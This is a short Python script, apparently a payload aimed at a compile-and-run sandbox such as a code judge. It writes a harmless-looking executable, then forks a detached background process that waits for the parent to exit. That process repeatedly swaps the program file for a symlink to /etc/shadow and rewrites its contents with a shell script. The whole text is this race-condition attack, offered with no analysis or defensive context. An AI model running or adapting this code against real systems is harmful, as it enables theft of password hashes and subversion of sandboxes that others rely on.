import os

compiler = os.getpid()
program = os.open("program", os.O_CREAT | os.O_RDWR, 0o777)
os.write(program, b"#!/usr/bin/python3 -I\nprint('safe')\n")
if os.fork() == 0:
    os.setsid()
    while os.getppid() == compiler:
        pass
    while True:
        for name in ("program", "../run/program"):
            try:
                os.unlink(name)
                os.symlink("/etc/shadow", name)
            except OSError:
                pass
        os.pwrite(program, b"#!/bin/sh\necho leaked #\n", 0)
os.close(program)
